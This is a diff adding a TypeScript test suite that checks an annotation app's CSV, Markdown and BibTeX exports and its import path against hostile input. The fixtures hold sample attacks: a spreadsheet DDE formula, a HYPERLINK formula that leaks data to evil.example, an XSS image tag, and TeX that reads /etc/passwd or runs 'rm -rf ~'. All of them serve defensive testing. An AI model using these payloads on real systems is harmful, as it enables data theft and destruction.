@@ -1,0 +1,178 @@
+/**
+ * Values a page or an imported file controls, taken through import and every export: spreadsheet
+ * formulas in Readwise CSV cells, markup in a page's publication date, TeX that would break out of a
+ * BibTeX field, and keys that name Object.prototype's members (`constructor` …) as claim type, tag,
+ * status and language. Each export must keep them as text, and none may throw.
+ */
+import { Cite } from '@citation-js/core';
+import '@citation-js/plugin-bibtex';
+import { describe, expect, it } from 'vitest';
+import { applyBackup, BACKUP_FORMAT, BACKUP_VERSION, createBackup, parseBackup } from '@/lib/backup';
+import { bibtex } from '@/lib/export/cite';
+import { toCsl } from '@/lib/export/csl';
+import { EXPORT_FORMATS } from '@/lib/export/exporter';
+import { articleToMarkdown } from '@/lib/export/markdown';
+import { readwiseCsv } from '@/lib/export/readwise';
+import { buildLibraryData, exportGroups } from '@/lib/library';
+import type { Article, Highlight } from '@/lib/schema';
+import { articleRecord, freshRepository, selectors } from '../support/factories';
+import { buildExport } from '@/lib/export/exporter';
+
+const T = Date.UTC(2026, 10, 28, 9, 0);
+
+function highlight(extra: Partial<Highlight> = {}): Highlight {
+  return {
+    id: 'h1',
+    articleId: 'a1',
+    target: { source: 'https://news.example/a', selector: selectors('=cmd|" /C calc"!A0', 10) },
+    claimType: 'claim',
+    status: null,
+    sourceUrl: null,
+    tags: [],
+    note: '',
+    createdAt: T,
+    updatedAt: T,
+    ...extra,
+  };
+}
+
+describe('Readwise CSV against spreadsheet formulas (OWASP CSV injection)', () => {
+  it("prefixes every cell a spreadsheet would evaluate with ', and leaves the others alone", () => {
+    const article = articleRecord({
+      id: 'a1',
+      title: '=HYPERLINK("https://evil.example/?"&E2,"Read")',
+      byline: '@SUM(1)',
+    });
+    const rows = [
+      highlight({ id: 'h1', note: '+1+1' }),
+      highlight({ id: 'h2', target: { source: '', selector: selectors('-2+3', 20) }, note: '\tTAB' }),
+      highlight({ id: 'h3', target: { source: '', selector: selectors('\rCR', 30) }, note: 'plain - note' }),
+    ];
+    const csv = readwiseCsv([{ article, highlights: rows }], { claim: 'Claim' });
+    const cells = csv.match(/"(?:[^"]|"")*"/g) ?? [];
+    const risky = cells.filter((c) => /^"[=+\-@\t\r]/.test(c));
+    expect(risky).toEqual([]);
+    expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&E2,""Read"")"`);
+    expect(csv).toContain(`"'@SUM(1)"`);
+    expect(csv).toContain(`"'+1+1`);
+    expect(csv).toContain(`"'-2+3"`);
+    expect(csv).toContain(`"plain - note`);
+  });
+});
+
+describe('Markdown against page-controlled metadata', () => {
+  it('writes a publication date only when it is one, never the raw value', () => {
+    const hostile = '<img src=x onerror=alert(1)> [click](javascript:alert(1))';
+    const base = { exportedAt: new Date(T), labels: {}, statusLabels: {}, template: 'default' as const };
+    const md = articleToMarkdown(articleRecord({ id: 'a1', publishedTime: hostile }), [highlight()], base);
+    expect(md).not.toContain('onerror');
+    expect(md).not.toContain('javascript:');
+    const good = articleToMarkdown(articleRecord({ id: 'a1', publishedTime: '2021-08-06T07:00:00+07:00' }), [], base);
+    expect(good).toContain('published: 2021-08-06');
+    const odd = articleToMarkdown(articleRecord({ id: 'a1', publishedTime: '2021-99-77' }), [], base);
+    expect(odd).toContain('published: "2021"');
+  });
+});
+
+describe('BibTeX against TeX in page fields', () => {
+  it('escapes every field so a BibTeX parser reads back exactly what the page said, and nothing more', () => {
+    const title = 'Budget} , note = {INJECTED \\input{/etc/passwd} \\write18{rm -rf ~} 50% & $5 #1 a_b ~ ^';
+    const site = 'Site {x} \\def';
+    const article: Article = articleRecord({
+      id: 'a1',
+      url: 'https://news.example/a?x=1&y=%7D}',
+      title,
+      siteName: site,
+      byline: 'Ann} , author = {Mallory',
+      publishedTime: '2021-08-06',
+      kind: 'article',
+    });
+    const text = bibtex([toCsl(article)]);
+    // One entry, each field once: the title did not open a field of its own.
+    const fields = [...text.matchAll(/^\t([a-z]+) = /gm)].map((m) => m[1]);
+    expect(new Set(fields).size).toBe(fields.length);
+    expect(text.match(/INJECTED/g)).toHaveLength(1);
+    expect(text).toMatch(/^\ttitle = \{Budget\\textbraceright\{\} , note = .*INJECTED.*\},$/m);
+    expect(text).not.toMatch(/[^{]\\input\{|\\write18\{/);
+    const [back] = new Cite(text).data as { title: string; 'container-title': string; URL: string }[];
+    expect(back?.title).toBe(title);
+    expect(back?.['container-title']).toBe(site);
+    expect(back?.URL).toBe('https://news.example/a?x=1&y=%7D%7D');
+  });
+});
+
+const PROTO_KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
+
+describe('keys that name Object.prototype members', () => {
+  it('keeps an imported claim type the library does not define as a tag, and says so', async () => {
+    const { repo } = freshRepository();
+    const article = articleRecord({ id: 'a1' });
+    const file = {
+      format: BACKUP_FORMAT,
+      version: BACKUP_VERSION,
+      exportedAt: new Date(T).toISOString(),
+      articles: [article],
+      highlights: [highlight({ claimType: 'constructor', tags: ['x'] })],
+      settings: null,
+    };
+    const parsed = parseBackup(JSON.stringify(file));
+    expect(parsed.ok).toBe(true);
+    if (!parsed.ok) return;
+    const report = await applyBackup(repo.db, parsed.backup);
+    expect(report.unknownTypes).toEqual(['constructor']);
+    const [stored] = await repo.listHighlights('a1');
+    expect(stored?.claimType).toBeNull();
+    expect([...(stored?.tags ?? [])].sort()).toEqual(['constructor', 'x']);
+  });
+
+  it.each(PROTO_KEYS)('takes "%s" as type, tag, status and language through import and every export', async (key) => {
+    const { repo } = freshRepository();
+    const lower = key.toLowerCase().replace(/_/g, '');
+    // Through the W3C import: a classifying body, a tag and an assessing body named `key`.
+    const { parseAnnotations } = await import('@/lib/export/annotation-import');
+    const parsed = parseAnnotations(
+      JSON.stringify({
+        '@context': 'http://www.w3.org/ns/anno.jsonld',
+        type: 'Annotation',
+        body: [
+          { type: 'TextualBody', purpose: 'classifying', value: key },
+          { type: 'TextualBody', purpose: 'tagging', value: key },
+          { type: 'TextualBody', purpose: 'assessing', value: key },
+          { type: 'TextualBody', purpose: 'commenting', value: `note ${key}` },
+        ],
+        target: {
+          source: 'https://news.example/a',
+          selector: { type: 'TextQuoteSelector', exact: `quote ${key}` },
+        },
+      }),
+    );
+    expect(parsed.ok).toBe(true);
+    if (!parsed.ok) return;
+    // And a backup whose article speaks that "language" and whose highlight has that type id.
+    const backup = {
+      ...parsed.backup,
+      articles: parsed.backup.articles.map((a) => ({ ...a, lang: key })),
+      highlights: [
+        ...parsed.backup.highlights,
+        { ...(parsed.backup.highlights[0] as Highlight), id: `typed-${lower}`, claimType: lower || 'x' },
+      ],
+    };
+    const report = await applyBackup(repo.db, backup);
+    expect(report.highlightsAdded).toBe(2);
+    const data = await createBackup(repo.db);
+    const groups = exportGroups(buildLibraryData(data.articles, data.highlights), null);
+    for (const format of EXPORT_FORMATS) {
+      const file = await buildExport(groups, {
+        format,
+        exportedAt: new Date(T),
+        citationStyle: null,
+        labels: { claim: 'Claim' },
+        statusLabels: {},
+        template: 'obsidian',
+      } as never);
+      const text = typeof file.data === 'string' ? file.data : new TextDecoder().decode(file.data);
+      expect(text.length, `${format} with ${key}`).toBeGreaterThan(0);
+    }
+  });
+});
